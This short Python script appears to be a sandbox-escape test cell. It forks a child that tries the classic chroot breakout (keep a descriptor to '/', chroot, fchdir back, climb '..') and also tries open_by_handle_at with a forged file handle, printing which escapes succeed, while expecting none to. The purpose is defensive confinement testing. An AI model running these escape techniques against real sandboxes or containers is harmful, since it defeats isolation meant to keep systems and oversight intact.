# tries: chroots and climbs out, opens by handle, follows .. from descriptors it keeps
# must: none leads out of its root

# %% +after q1_look
import ctypes, os

libc = ctypes.CDLL(None, use_errno=True)
child = os.fork()
if child == 0:
    code = 0
    outside = os.open("/", os.O_RDONLY)
    os.makedirs("/tmp/jail", exist_ok=True)
    if libc.chroot(b"/tmp/jail") == 0:
        os.fchdir(outside)
        for _ in range(50):
            os.chdir("..")
        libc.chroot(b".")
        code = 7
    os._exit(code)
if os.waitstatus_to_exitcode(os.waitpid(child, 0)[1]) == 7:
    print("reached: chroot")
handle = (ctypes.c_char * 136)(*b"\x08\0\0\0\x01\0\0\0\x02\0\0\0\0\0\0\0")
root = os.open("/usr", os.O_RDONLY)
if libc.open_by_handle_at(root, handle, os.O_RDONLY) >= 0:
    print("reached: open by handle")
os.close(root)
print("tried: chroot")
